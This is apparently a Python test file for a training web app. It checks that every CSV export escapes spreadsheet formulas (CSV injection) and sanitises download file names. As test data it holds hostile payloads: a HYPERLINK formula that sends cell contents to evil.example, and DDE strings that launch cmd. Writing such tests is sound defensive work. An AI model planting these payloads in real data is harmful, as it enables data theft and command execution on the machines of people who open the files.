"""Every CSV export is safe to open in a spreadsheet (OWASP CSV injection, issue 14).

A formula typed as a trainee's name, a cohort's name or a template's title must reach the
supervisor's spreadsheet as text. The CSV routes come from the URL map, and the report's
tables from the report itself, so a new export is checked without being listed here.
"""

from __future__ import annotations

import csv
import dataclasses
import io

from sqlalchemy import select

from tests.web.test_reports import _seed
from trainer.core.csv_files import FORMULA_PREFIXES
from trainer.domain import domain
from trainer.extensions import db
from trainer.models import Cohort, CohortMember, User
from trainer.services.reports import PROGRESS_TABLES, cohort_report

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_PLUS = "+cmd|' /C calc'!A0"
EVIL_AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _poison(app, users, monkeypatch) -> int:  # type: ignore[no-untyped-def]
    seeded = _seed(app, users)
    with app.app_context():
        cohort = db.session.get(Cohort, seeded["cohort"])
        cohort.name = EVIL
        members = db.session.scalars(
            select(User).join(CohortMember).where(CohortMember.cohort_id == cohort.id)
        ).all()
        for n, member in enumerate(members):
            member.display_name = (EVIL, EVIL_PLUS, EVIL_AT, "-2+3", "\t=1")[n % 5]
        db.session.commit()
        library = domain().library
        good = seeded["good"]
        monkeypatch.setitem(library.templates, good.id, dataclasses.replace(good, title=EVIL))
        from trainer.services import audit

        audit.record(db.session, None, "cohort.rename", "cohort", cohort.id, EVIL_AT)
        db.session.commit()
    return seeded["cohort"]


def _csv_urls(app, cohort_id: int) -> list[str]:
    urls = []
    with app.app_context():
        cohort = db.session.get(Cohort, cohort_id)
        tables = cohort_report(cohort, domain().library, 0.95, 0.97).tables
    for rule in app.url_map.iter_rules():
        if not rule.rule.endswith(".csv"):
            continue
        assert rule.arguments <= {"cohort_id", "table", "name"}, f"seed {rule.rule} in this test"
        url = rule.rule.replace("<int:cohort_id>", str(cohort_id))
        if "<name>" in url:  # the signed-in trainee's own cost tables
            urls += [url.replace("<name>", n) for n in PROGRESS_TABLES]
            continue
        urls += [url.replace("<table>", t) for t in tables] if "<table>" in url else [url]
    return urls


def test_no_csv_export_cell_can_run_as_a_formula(app, client, auth, users, monkeypatch):
    cohort_id = _poison(app, users, monkeypatch)
    auth.login("supervisor")
    admin = app.test_client()  # the audit log's export is for administrators
    admin.post("/auth/login", data={"username": "admin", "password": "correct-horse-battery"})
    urls = _csv_urls(app, cohort_id)
    assert len(urls) >= 10  # the cohort CSV, every report table and the audit log
    seen = set()
    for url in urls:
        response = (admin if url.startswith("/admin/") else client).get(url)
        assert response.status_code == 200, url
        assert response.mimetype == "text/csv"
        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES):
                    float(cell)  # only a plain number such as -3.5 may start with '-'
                seen.add(cell)
    # The poisoned values were exported (as text), so the check above had something to find.
    for value in (EVIL, EVIL_PLUS, EVIL_AT, "-2+3", "\t=1"):
        assert "'" + value in seen, value
    # A trainee named as a formula exports their own cost tables as text too.
    auth.logout()
    auth.login("coder0")
    body = client.get("/progress/costs/claims.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][:2] == ["'" + EVIL, "coder0"]


def test_the_file_name_of_a_poisoned_cohort_is_inert_too(app, client, auth, users, monkeypatch):
    cohort_id = _poison(app, users, monkeypatch)
    auth.login("supervisor")
    header = client.get(f"/supervise/cohorts/{cohort_id}/report.csv").headers
    assert (
        header["Content-Disposition"]
        == 'attachment; filename="HYPERLINK-http-evil-example-A1-Click-accuracy.csv"'
    )
